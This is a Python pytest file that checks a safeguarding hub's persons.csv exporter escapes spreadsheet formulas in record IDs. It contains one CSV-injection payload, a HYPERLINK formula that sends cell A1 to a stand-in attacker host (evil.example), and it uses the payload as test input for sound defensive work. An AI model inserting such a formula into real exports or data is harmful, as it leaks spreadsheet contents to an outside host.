"""persons.csv, the hub's hand-back of which records are one person (src/safeguarding/exchange/exporters.py)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from safeguarding.exchange.exporters import export_persons
from tests.factories import PersonFactory, SourceRecordFactory, SourceSystemFactory


@pytest.mark.django_db
def test_a_record_id_that_a_spreadsheet_would_run_is_written_as_text(tmp_path: Path) -> None:
    system = SourceSystemFactory(code="police-records")
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    SourceRecordFactory(source_system=system, record_id=hostile, person=PersonFactory())
    SourceRecordFactory(source_system=system, record_id="NICHE-1", person=PersonFactory())
    out = tmp_path / "persons.csv"

    assert export_persons(out) == 2

    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["record_id"] for r in rows] == ["'" + hostile, "NICHE-1"]
